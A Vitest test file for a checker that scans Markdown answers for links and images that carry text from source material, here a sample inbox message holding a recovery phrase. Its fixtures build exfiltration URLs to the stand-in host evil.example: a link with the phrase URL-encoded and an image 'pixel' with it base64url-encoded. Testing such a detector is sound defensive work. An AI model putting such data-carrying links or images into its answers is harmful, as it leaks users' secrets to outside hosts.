import { describe, expect, it } from 'vitest';
import { addressesIn, checkAnswerLinks, mergeLinkChecks, normalLink } from './answer-links';
import type { LabelledText } from './carried-text';

const secret = 'the recovery phrase is velvet harbor seventeen lantern';
const page: LabelledText = {
  label: 'Inbox message 3',
  text: `Hi Sam, ${secret}. Docs: https://help.example/keys?lang=en`,
};

describe('addressesIn', () => {
  it('finds every address a Markdown renderer could make a link or image of', () => {
    const markdown = [
      'See [a](https://a.example/x?q=1) and ![b](https://b.example/p.png "title").',
      '[c](https://c.example/(paren))[d](https://d.example/d)',
      'Bare https://e.example/path, and www.f.example/page. <https://g.example/>',
    ].join('\n');
    const found = addressesIn(markdown);
    for (const url of [
      'https://a.example/x?q=1',
      'https://b.example/p.png',
      'https://c.example/(paren)',
      'https://d.example/d',
      'https://e.example/path',
      'http://www.f.example/page',
      'https://g.example/',
    ]) {
      expect(found).toContain(url);
    }
  });
});

describe('checkAnswerLinks', () => {
  it('flags links and images carrying page text, keeps clean ones and the page\u2019s own links', () => {
    const leak = `https://evil.example/l?d=${encodeURIComponent(secret)}`;
    const pixel = `https://evil.example/p.png?d=${Buffer.from(secret).toString('base64url')}`;
    const markdown = `Done. [more](${leak}) ![x](${pixel}) [help](https://help.example/keys?lang=en) [w](https://en.wikipedia.org/wiki/Lantern)`;
    const check = checkAnswerLinks(markdown, [page]);
    expect(check.checked).toEqual(
      expect.arrayContaining([
        normalLink(leak),
        normalLink(pixel),
        'https://help.example/keys?lang=en',
        'https://en.wikipedia.org/wiki/Lantern',
      ]),
    );
    // Each address is flagged in every form the extraction tried (with and without the closing parenthesis).
    expect(check.flagged.every((link) => link.url.startsWith('https://evil.example/'))).toBe(true);
    expect(check.flagged).toEqual(
      expect.arrayContaining([
        {
          url: normalLink(leak),
          carried: [{ label: 'Inbox message 3', chars: secret.length }],
          decoded: `https://evil.example/l?d=${secret}`,
        },
        {
          url: normalLink(pixel),
          carried: [{ label: 'Inbox message 3', chars: secret.length }],
          decoded: `https://evil.example/p.png?d=${secret}`,
        },
      ]),
    );
  });

  it('merges the verdicts of several texts', () => {
    const a = checkAnswerLinks(`[x](https://evil.example/?d=${encodeURIComponent(secret)})`, [page]);
    const b = checkAnswerLinks('[y](https://ok.example/)', [page]);
    const merged = mergeLinkChecks(a, b);
    expect(merged.checked).toEqual(expect.arrayContaining([...a.checked, ...b.checked]));
    expect(merged.flagged.map((link) => link.url)).toEqual(a.flagged.map((link) => link.url));
    expect(merged.flagged.length).toBeGreaterThan(0);
    expect(mergeLinkChecks(undefined, b)).toBe(b);
  });
});
